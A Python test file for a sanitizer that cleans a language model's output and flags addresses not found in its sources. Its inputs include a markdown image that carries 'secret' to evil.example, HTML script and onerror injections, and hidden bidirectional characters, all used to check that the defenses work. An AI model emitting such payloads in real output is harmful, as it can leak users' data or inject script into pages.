"""What of a model's words may be shown."""

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generation.plain_text import has_foreign_address, plain


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Leave is\n 30\tdays.", "Leave is 30 days."),
        ("A\u202eb\u200bc\x1b[31md\u2066e\ufeff", "Abc[31mde"),
        ("See ![x](https://evil.example/?q=secret) there.", "See x there."),
        ("See [the page](https://a.example/b_(c)) there.", "See the page there."),
        ("See [the page][1] there.", "See the page there."),
        ("<b>Bold</b> <img src=x onerror=y> words", "Bold words"),
        ("<<b>script>alert(1)</<b>script>", "alert(1)"),
        (
            "Keep a < b and 3 <4, <SECRET> and <CREDIT_CARD>.",
            "Keep a < b and 3 <4, <SECRET> and <CREDIT_CARD>.",
        ),
        ("It is so [1][2]. And so [3, 4].", "It is so. And so."),
        ("Keep [sic] and array[i].", "Keep [sic] and array[i]."),
        ("\u0645\u06cc\u200c\u0631\u0648\u0645", "\u0645\u06cc\u200c\u0631\u0648\u0645"),
        ("\u0915\u094d\u200d\u0937", "\u0915\u094d\u200d\u0937"),
    ],
)
def test_mark_up_and_what_cannot_be_seen_are_taken_out(text: str, shown: str) -> None:
    assert plain(text) == shown


HOSTILE = st.text(alphabet="ab<>/![]()1 \u200d\u202e\n\x07B_", max_size=60)


@given(HOSTILE | st.text(max_size=60))
def test_whatever_comes_is_one_visible_line_without_links(text: str) -> None:
    shown = plain(text)
    assert "](" not in shown
    assert shown == " ".join(shown.split())
    assert all(unicodedata.category(one) not in {"Cc", "Cs"} for one in shown)
    assert "\u202e" not in shown
    assert "<a" not in shown
    assert "</" not in shown
    assert plain(shown) == shown


@pytest.mark.parametrize(
    "text",
    [
        "Go to https://evil.example/?q=1 now.",
        "Go to //evil.example/x now.",
        "Go to www.evil.example now.",
        "Go to evil.example/?q=1 now.",
        "Write to mailto:a@evil.example now.",
        "Open data:text/html,x or so.",
    ],
)
def test_an_address_has_to_stand_in_a_quote(text: str) -> None:
    assert has_foreign_address(text, ["nothing", "https://good.example/"])
    assert not has_foreign_address(text, [f"As it says: {text}"])


def test_words_are_no_addresses() -> None:
    for text in (
        "The data: five rows.",
        "Either and/or both.",
        "Version 1.2 of x.y.",
        "Ask ann@acme.example.",
    ):
        assert not has_foreign_address(text, [])
